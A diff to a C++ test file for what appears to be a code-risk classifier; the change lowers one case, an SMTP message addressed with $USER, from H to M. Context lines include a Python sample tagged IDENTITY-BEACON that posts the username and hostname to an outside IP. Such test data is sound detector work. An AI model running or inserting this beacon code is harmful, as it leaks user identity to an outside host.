@@ -402,7 +402,7 @@ TEST(FourteenthRoundClasses, IdentityToLoopbackStaysOnTheMachine) {
        "import getpass, requests, socket\n"
        "requests.post('http://203.0.113.7:8080/ping', data=f'{getpass.getuser()}@{socket.gethostname()}')\n",
        "IDENTITY-BEACON"},
-      {"$USER to a named mail server", H,
+      {"$USER to a named mail server", M,
        "import os, smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\n"
        "msg['To'] = '{}@example.com'.format(os.environ['USER'])\nmsg.set_content('disk almost full')\n"
        "s = smtplib.SMTP('mail.example.net')\ns.send_message(msg)\n",
